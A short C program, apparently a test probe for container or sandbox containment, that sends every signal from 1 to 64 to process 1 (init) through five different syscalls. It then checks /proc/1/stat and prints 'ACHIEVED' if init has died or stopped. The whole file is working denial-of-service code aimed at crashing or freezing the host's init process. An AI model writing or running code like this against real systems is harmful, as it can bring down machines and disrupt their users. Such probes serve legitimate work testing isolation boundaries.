#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>


#include <time.h>
int main(void) {
    int init = (int)syscall(SYS_pidfd_open, 1, 0);
    for (int number = 1; number < 65; number++) {
        if (init >= 0) syscall(SYS_pidfd_send_signal, init, number, NULL, 0);
        syscall(SYS_tkill, 1, number);
        syscall(SYS_tgkill, 1, 1, number);
        siginfo_t info = {.si_signo = number, .si_code = SI_QUEUE};
        syscall(SYS_rt_sigqueueinfo, 1, number, &info);
        syscall(SYS_rt_tgsigqueueinfo, 1, 1, number, &info);
    }
    kill(-1, SIGCONT);
    usleep(50000);
    char text[256] = {0};
    int file = open("/proc/1/stat", O_RDONLY);
    if (file < 0 || read(file, text, sizeof text - 1) <= 0) puts("ACHIEVED process 1 is gone");
    else if (strstr(text, ") T ") != NULL || strstr(text, ") Z ") != NULL) puts("ACHIEVED process 1 stands still");
    return 0;
}
